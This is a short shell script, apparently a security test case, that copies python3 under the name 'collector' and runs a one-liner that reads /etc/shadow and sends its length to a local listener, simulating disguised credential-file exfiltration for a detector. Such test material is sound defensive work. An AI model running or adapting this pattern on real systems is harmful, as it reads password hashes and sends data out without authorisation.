source "$(dirname "$0")/../lib.sh"
drop=$(start_listener)
cp /usr/bin/python3 "$WORK/collector"
"$WORK/collector" -c 'import socket, sys
data = open("/etc/shadow", "rb").read()
socket.create_connection(("127.0.0.1", int(sys.argv[1]))).sendall(str(len(data)).encode())' "$drop"
mark_end
